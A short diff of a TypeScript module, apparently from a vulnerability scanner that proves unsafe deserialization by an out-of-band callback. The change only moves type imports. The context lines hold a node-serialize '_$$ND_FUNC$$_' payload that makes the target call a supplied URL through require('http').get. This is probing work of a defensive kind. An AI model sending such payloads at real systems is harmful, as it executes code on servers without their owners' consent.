@@ -1,9 +1,10 @@
 // Objects that are read back from text with their behaviour: proved only by a call that they make the target do.
 
 import { percentDecoded } from '../../core/percent.ts'
+import type { Context, PointCheck } from '../check.ts'
 import { isSettled, settle } from '../found.ts'
 import { type CallAddress, expectCall, takesText, textValue } from '../probing.ts'
-import type { Context, Operation, Point, PointCheck } from '../types.ts'
+import type { Operation, Point } from '../types.ts'
 
 const node = (url: string) => `{"merlon":"_$$ND_FUNC$$_function(){require('http').get('${url}')}()"}`
 const command = (url: string) =>
